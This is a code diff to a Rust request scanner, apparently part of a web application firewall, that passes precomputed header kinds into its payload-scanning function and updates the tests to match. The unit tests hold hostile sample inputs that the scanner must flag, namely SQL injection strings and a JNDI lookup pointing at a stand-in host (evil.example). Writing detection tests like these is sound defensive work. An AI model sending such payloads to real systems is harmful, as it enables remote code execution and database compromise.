@@ -11,7 +11,7 @@ use super::classes::{self, Mask};
 use super::body::{self, SplitBuffers};
 use super::split::{self, Decode, Scope};
 use super::{code, crlf, decode, gadget, serial, shell, sqli, ssrf, template, traversal, xss, xxe, Family, Hits, Location, PayloadFindings};
-use crate::decision::{Header, Texts};
+use crate::decision::{Header, Headers, Texts};
 
 /// What the JS layer hands over for a request. Every field may be empty.
 #[derive(Clone, Copy, Debug, Default)]
@@ -250,16 +250,16 @@ fn fits_grammar(value: &[u8]) -> bool {
 }
 
 /// Scans a request as the decision layer holds it: the request target, each header value (the
-/// Cookie header as cookies), the email and each body field.
-pub fn scan_texts(texts: &Texts<'_>, scratch: &mut Scratch) -> PayloadFindings {
+/// Cookie header as cookies; `headers` tells which known header each pair is), the email and each
+/// body field.
+pub fn scan_texts(texts: &Texts<'_>, headers: &Headers<'_>, scratch: &mut Scratch) -> PayloadFindings {
     let mut out = PayloadFindings::default();
     let Scratch { split, values } = scratch;
     values.detect.budget = sqli::BUDGET;
     let mut sink = |v: &[u8], how: Decode, location: Location, scope: Scope| values.value(v, how, location, scope, &mut out);
     split::path(texts.path.as_bytes(), &mut sink);
     let mut binary_media = false;
-    for (name, value) in texts.header_pairs() {
-        let header = Header::lookup(name);
+    for ((_, value), &header) in texts.header_pairs().zip(headers.kinds()) {
         binary_media |= header == Some(Header::ContentType) && body::binary_media(value);
         match header {
             Some(Header::Cookie) => split::cookies(value.as_bytes(), &mut sink),
@@ -398,7 +398,7 @@ mod tests {
         let scan_as = |ct: &str| {
             let region = format!("content-type\0{ct}");
             let texts = Texts { header_region: &region, header_pairs: 1, body_region: &body, body_fields: 1, ..Default::default() };
-            scan_texts(&texts, &mut Scratch::default())
+            scan_texts(&texts, &texts.headers(), &mut Scratch::default())
         };
         assert_eq!(scan_as("image/jpeg").confirmed, PayloadFindings::default().confirmed, "a photo PUT as the body");
         assert!(scan_as("text/plain").confirmed_in(Family::Sqli, Location::Body), "text is read whatever it holds");
@@ -407,7 +407,7 @@ mod tests {
         let padded = format!("{{\"pad\":\"{}\",\"q\":\"' or 1=1--\"}}", "\u{fffd}".repeat(4000));
         let region = "content-type\0image/png";
         let texts = Texts { header_region: region, header_pairs: 1, body_region: &padded, body_fields: 1, ..Default::default() };
-        assert!(scan_texts(&texts, &mut Scratch::default()).confirmed_in(Family::Sqli, Location::Body));
+        assert!(scan_texts(&texts, &texts.headers(), &mut Scratch::default()).confirmed_in(Family::Sqli, Location::Body));
     }
 
     #[test]
@@ -431,7 +431,7 @@ mod tests {
         }
         let region = "accept\0${jndi:ldap://evil.example/a}\0sec-ch-ua\0\"x\";v=\"1\"' OR 1=1-- -";
         let texts = Texts { header_region: region, header_pairs: 2, ..Default::default() };
-        let f = scan_texts(&texts, &mut Scratch::default());
+        let f = scan_texts(&texts, &texts.headers(), &mut Scratch::default());
         assert!(f.confirmed_in(Family::Jndi, Location::Header) && f.confirmed_in(Family::Sqli, Location::Header), "{f:?}");
     }
 }
